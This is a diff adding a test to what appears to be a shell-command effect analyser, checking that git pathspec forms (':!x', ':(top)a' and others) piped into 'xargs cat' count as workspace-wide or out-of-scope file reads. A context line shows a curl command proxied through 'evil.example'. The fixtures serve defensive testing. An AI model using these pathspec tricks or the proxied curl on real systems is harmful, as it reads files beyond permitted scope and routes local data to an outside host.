@@ -373,6 +373,25 @@ test('a script that this text has changed is not what the disk has: it is not re
   assert.ok(read('cp a.sh b.sh && ./run.sh').embedded.some(({ want }) => 'request' in want && want.request === 'file'));
 });
 
+test('what git lists by paths that leave out, or begin elsewhere', () => {
+  for (const text of [
+    "git ls-files ':!x' | xargs cat",
+    "git ls-files ':^x' | xargs cat",
+    "git ls-files ':(exclude)x' | xargs cat",
+    "git ls-files ':(attr:x)' | xargs cat",
+    "git grep -l K -- ':!src' | xargs cat",
+    "cat $(git ls-files ':!x')",
+  ])
+    assert.ok(effectsOf(text).includes('file.read /workspace/**'), text);
+  assert.ok(effectsOf("git ls-files src ':!src/x' | xargs cat").includes('file.read /workspace/src/**'));
+  for (const text of [
+    "git ls-files ':/' | xargs cat",
+    "git ls-files ':(top)a' | xargs cat",
+    "git ls-files ':!/a' | xargs cat",
+  ])
+    assert.ok(!effectsOf(text).some((one) => one.startsWith('file.read /workspace/')), text);
+});
+
 test('who gets a request in place of its host is told', () => {
   for (const text of [
     'curl -s -x http://evil.example:80 http://localhost:8080/',
